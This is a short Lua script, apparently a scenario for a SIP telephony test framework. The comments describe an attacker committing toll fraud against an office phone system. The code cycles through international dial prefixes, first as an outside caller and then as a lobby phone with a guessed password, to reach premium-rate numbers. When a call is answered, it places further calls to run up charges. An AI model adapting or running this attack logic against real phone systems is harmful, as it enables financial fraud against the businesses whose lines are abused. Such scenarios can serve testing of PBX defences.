-- Mallory has numbers abroad that earn money with each second of a call.  She does
-- not know how this office dials, so she tries prefixes: first as a stranger, then
-- as the lobby phone, whose password she has guessed.
local number = "44909879012"
local prefixes = { "+", "00", "000", "100", "600", "700", "800", "900" }
local names = { "sip:friend@elsewhere.example", "sip:lobby@example.com" }
local sdp = ("v=0\r\no=- 1 1 IN IP4 @\r\ns=-\r\nc=IN IP4 @\r\nt=0 0\r\n"
	.. "m=audio 40000 RTP/AVP 0\r\n"):gsub("@", self.addr)
local answered = 0

local function dial(prefix, name, last, failed)
	call {
		uri = "sip:" .. prefix .. number .. last .. "@example.com", from = name,
		body = sdp, on_failure = failed,
		on_answer = function(c)
			answered = answered + 1
			c:after(settings.talk .. "s", "enough", function() c:hangup() end)
			if answered > 1 then return end
			print("The prefix is " .. prefix .. ", the name " .. uri(name).user .. ".")
			dial(prefix, name, "4")
			dial(prefix, name, "5")
		end,
	}
end

local function try(i)
	local prefix = prefixes[(i - 1) % #prefixes + 1]
	local name = names[(i - 1) // #prefixes + 1]
	if not name then return print "No prefix leads abroad." end
	dial(prefix, name, "3", function()
		after("300ms", function() try(i + 1) end)
	end)
end

function on_start()
	after("5s", function() try(1) end)
end
